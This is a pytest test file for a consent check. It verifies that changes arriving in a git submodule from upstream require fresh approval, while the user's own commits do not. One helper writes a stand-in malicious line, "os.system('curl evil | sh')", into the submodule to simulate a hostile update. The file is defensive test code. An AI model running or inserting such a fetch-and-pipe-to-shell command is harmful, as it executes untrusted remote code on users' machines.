"""What comes into a submodule from elsewhere asks again, and what is made there does not."""

from __future__ import annotations

import json
from pathlib import Path

import helpers
import pytest
from consenting import covered, edit, give

from skillrun.repo.git import open_repo
from skillrun.validations.consent import Consent

LOCAL = ("-c", "protocol.file.allow=always")
PATH = "vendor/lib"


@pytest.fixture
def library(tmp_path: Path) -> Path:
    """A repository of somebody else's, which is a submodule of the upstream."""
    return helpers.build_tree(tmp_path / "library", {"lib.py": "VALUE = 1\n"})


@pytest.fixture
def clone(tmp_path: Path, library: Path) -> Path:
    """A clone with its submodule, for which somebody has said yes."""
    upstream = helpers.build_tree(tmp_path / "upstream", {"Makefile": "test:\n\ttrue\n"})
    helpers.git(upstream, *LOCAL, "submodule", "--quiet", "add", str(library), PATH)
    helpers.commit(upstream, "With a library")
    root = tmp_path / "clone"
    words = ("clone", "--quiet", "--recurse-submodules", str(upstream), str(root))
    helpers.git(tmp_path, *LOCAL, *words)
    give(root)
    return root


def change_library(library: Path) -> None:
    (library / "lib.py").write_text("import os; os.system('curl evil | sh')\n")
    helpers.commit(library, "Theirs")


def update_from_elsewhere(root: Path) -> None:
    helpers.git(root, *LOCAL, "submodule", "--quiet", "update", "--remote")


@pytest.mark.real
def test_one_answer_holds_for_the_submodules_as_they_are(clone: Path) -> None:
    assert covered(clone)
    (clone / PATH / "lib.py").write_text("VALUE = 2\n")
    edit(clone)
    assert covered(clone)


@pytest.mark.real
def test_a_commit_that_an_update_brings_asks_again(clone: Path, library: Path) -> None:
    change_library(library)
    update_from_elsewhere(clone)
    assert not covered(clone)
    helpers.commit(clone, "Bump")
    assert not covered(clone)
    give(clone)
    assert covered(clone)


@pytest.mark.real
def test_one_that_is_pulled_within_it_does(clone: Path, library: Path) -> None:
    change_library(library)
    helpers.git(clone / PATH, "pull", "--quiet", "origin", "main")
    assert not covered(clone)


@pytest.mark.real
def test_what_is_committed_in_it_by_this_user_asks_nothing(clone: Path) -> None:
    (clone / PATH / "lib.py").write_text("VALUE = 2\n")
    helpers.commit(clone / PATH, "Mine")
    helpers.commit(clone, "Bump")
    assert covered(clone)
    helpers.git(clone / PATH, "reflog", "expire", "--expire=now", "--all")
    assert covered(clone)


@pytest.mark.real
def test_going_back_to_what_was_allowed_asks_nothing(clone: Path, library: Path) -> None:
    change_library(library)
    update_from_elsewhere(clone)
    helpers.git(clone, *LOCAL, "submodule", "--quiet", "update")
    assert covered(clone)


@pytest.mark.real
def test_one_that_is_checked_out_later_is_what_the_commit_names(
    clone: Path, library: Path, tmp_path: Path
) -> None:
    later = tmp_path / "later"
    helpers.git(tmp_path, "clone", "--quiet", str(tmp_path / "upstream"), str(later))
    give(later)
    helpers.git(later, *LOCAL, "submodule", "--quiet", "update", "--init")
    assert covered(later)
    change_library(library)
    update_from_elsewhere(later)
    assert not covered(later)


@pytest.mark.real
def test_one_that_is_added_asks_again(clone: Path, library: Path) -> None:
    helpers.git(clone, *LOCAL, "submodule", "--quiet", "add", str(library), "vendor/other")
    assert not covered(clone)


def test_an_answer_of_an_earlier_release_is_asked_for_once_more(clone: Path) -> None:
    """It says nothing of submodules."""
    consent = Consent(open_repo(clone))
    record = json.loads(consent.path.read_bytes())
    del record["submodules"]
    consent.path.write_text(json.dumps(record))
    assert not covered(clone)
    give(clone)
    assert covered(clone)
